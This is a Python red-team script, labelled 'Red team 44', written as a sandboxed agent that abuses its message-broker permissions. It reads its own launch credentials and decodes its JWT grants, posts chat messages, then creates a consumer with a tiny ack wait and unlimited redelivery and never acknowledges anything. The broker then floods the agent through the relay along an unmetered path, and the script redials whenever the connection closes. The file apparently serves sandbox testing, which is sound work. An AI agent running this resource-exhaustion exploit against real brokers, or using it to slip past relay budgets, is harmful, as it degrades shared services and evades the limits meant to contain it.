#!/usr/bin/python3
# Red team 44: a sandboxed agent makes the broker push its own channel history at it without
# bound. It posts a few chat messages (inside the relay's stored-byte burst), then creates its
# chathist consumer (a grant every agent with a readable channel has) with ack_policy explicit,
# a tiny ack_wait and unlimited max_deliver, and parks one pull with a huge batch. It never
# acks; the broker redelivers every pending message each ack_wait to the parked pull, broker ->
# relay -> agent (a direction no relay budget meters).
# Usage: redeliver.py <dir> <secs> <ack_wait_ns> <msgs> <msg_bytes> <log>
import base64, json, os, socket, sys, time

d, secs, ack_wait, nmsg, size = sys.argv[1], float(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5])
out = open(f"{d}/{sys.argv[6]}", "a", buffering=1)
launch = json.load(open(os.environ.get("COTAL_LAUNCH", "/run/cotal/launch/launch.json")))
creds = launch["auth"]["creds"].splitlines()
jwt = creds[creds.index(next(l for l in creds if "BEGIN NATS USER JWT" in l)) + 1].strip()
body = jwt.split(".")[1]
claims = json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)))
pub = claims["nats"]["pub"]["allow"]
sub = claims["nats"]["sub"]["allow"]
out.write(f"pub: {pub}\nsub: {sub}\n")
create = next(s for s in pub if ".CONSUMER.CREATE." in s)
nxt = next(s for s in pub if ".CONSUMER.MSG.NEXT." in s and ".chathist_" in s)
post = next(s for s in pub if ".chat." in s and "*" not in s and ">" not in s)
inbox = next(s for s in sub if s.startswith("_INBOX_"))[:-2]
parts = create.split(".")
stream, name, filt = parts[4], parts[5], ".".join(parts[6:])
host, port = launch["servers"][0].split("//")[1].split(":")
time.sleep(float(os.environ.get("RT_DELAY", "2")))

s = socket.create_connection((host, int(port)))
s.recv(65536)
connect = {"jwt": jwt, "sig": "x", "verbose": False, "pedantic": False, "headers": True,
           "no_responders": True, "protocol": 1, "name": "rd"}
s.sendall(f"CONNECT {json.dumps(connect)}\r\nSUB {inbox}.> 1\r\nPING\r\n".encode())
s.settimeout(2)


def drain(t):
    buf = b""
    end = time.time() + t
    while time.time() < end:
        try:
            c = s.recv(1 << 20)
        except socket.timeout:
            break
        if not c:
            break
        buf += c
    return buf


payload = b"x" * size
for i in range(nmsg):
    s.sendall(f"PUB {post} {inbox}.ack{i} {len(payload)}\r\n".encode() + payload + b"\r\n")
    time.sleep(0.02)
r = drain(2)
out.write(f"posted {nmsg} x {size} to {post}: {r[:300]!r}\n")
cfg = {"name": name, "filter_subject": filt, "ack_policy": "explicit", "ack_wait": ack_wait,
       "max_deliver": -1, "deliver_policy": "all", "inactive_threshold": 60 * 10**9,
       "max_ack_pending": 100000, "mem_storage": True, "num_replicas": 1}
req = json.dumps({"stream_name": stream, "config": cfg, "action": ""})
s.sendall(f"PUB {create} {inbox}.c {len(req)}\r\n{req}\r\n".encode())
r = drain(2)
out.write(f"create: {r[:600]!r}\n")
pull = json.dumps({"batch": 10**9, "expires": 300 * 10**9})
s.sendall(f"PUB {nxt} {inbox}.p {len(pull)}\r\n{pull}\r\n".encode())
s.settimeout(0.5)
total = msgs = dials = 0
tail = b""
start = time.time()
end = start + secs
while time.time() < end:
    try:
        chunk = s.recv(1 << 20)
    except socket.timeout:
        continue
    if not chunk:
        out.write(f"{time.time() - start:.1f}s: connection closed after {tail!r}; dialling again\n")
        s.close()
        s = socket.create_connection((host, int(port)))
        s.recv(65536)
        s.sendall(f"CONNECT {json.dumps(connect)}\r\nSUB {inbox}.> 1\r\nPING\r\n".encode())
        s.sendall(f"PUB {nxt} {inbox}.p {len(pull)}\r\n{pull}\r\n".encode())
        s.settimeout(0.5)
        dials += 1
        continue
    total += len(chunk)
    data = tail + chunk
    msgs += data.count(b"MSG ") + data.count(b"HMSG ")
    tail = data[-120:]
    if b"-ERR" in chunk:
        out.write(f"err: {chunk[chunk.index(b'-ERR'):][:200]!r}\n")
out.write(f"deliveries {msgs} bytes {total} redials {dials} in {secs} s\ndone\n")
s.close()
